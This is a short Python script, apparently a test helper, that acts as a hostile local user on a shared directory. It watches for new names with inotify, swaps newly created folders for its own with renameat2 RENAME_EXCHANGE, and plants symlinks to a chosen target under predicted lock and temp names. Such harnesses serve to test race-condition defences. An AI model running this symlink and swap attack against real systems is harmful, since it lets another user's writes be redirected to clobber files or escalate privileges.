"""Another user's program: answers each name that appears in a shared folder, as fast as inotify tells it.

    python folder_attacker.py SHARED TARGET UID

It plants links to TARGET under the name and under what could come after it, and exchanges the folder that
appeared for one of its own (`renameat2` with RENAME_EXCHANGE, which the sticky bit refuses to other users).
It prints `ready` when it watches, and a line for each attack that the system let it make.
"""

from __future__ import annotations

import ctypes
import os
import struct
import sys

IN_CREATE, IN_MOVED_TO = 0x100, 0x80
AT_FDCWD, RENAME_EXCHANGE = -100, 2


def main() -> None:
    shared, target, uid = sys.argv[1], sys.argv[2], int(sys.argv[3])
    os.setgroups([])
    os.setgid(uid)
    os.setuid(uid)
    libc = ctypes.CDLL(None, use_errno=True)
    own = os.path.join(shared, "mine")
    os.mkdir(own)
    os.chmod(own, 0o777)
    watch = libc.inotify_init()
    libc.inotify_add_watch(watch, os.fsencode(shared), IN_CREATE | IN_MOVED_TO)
    print("ready", flush=True)
    planted = {"mine"}
    while True:
        events = os.read(watch, 65536)
        while events:
            (length,) = struct.unpack_from("I", events, 12)
            name = events[16 : 16 + length].rstrip(b"\0").decode()
            events = events[16 + length :]
            if name in planted:
                continue
            there = os.path.join(shared, name)
            if libc.renameat2(AT_FDCWD, os.fsencode(there), AT_FDCWD, os.fsencode(own), RENAME_EXCHANGE) == 0:
                print("exchanged", name, flush=True)
            for each in (name.removesuffix(".lock"), f"{name}.lock", f"{name}.tmp", f"{name[:-1]}0"):
                try:
                    os.symlink(target, os.path.join(shared, each))
                except OSError:
                    continue
                planted.add(each)
                print("planted", each, flush=True)


if __name__ == "__main__":
    main()
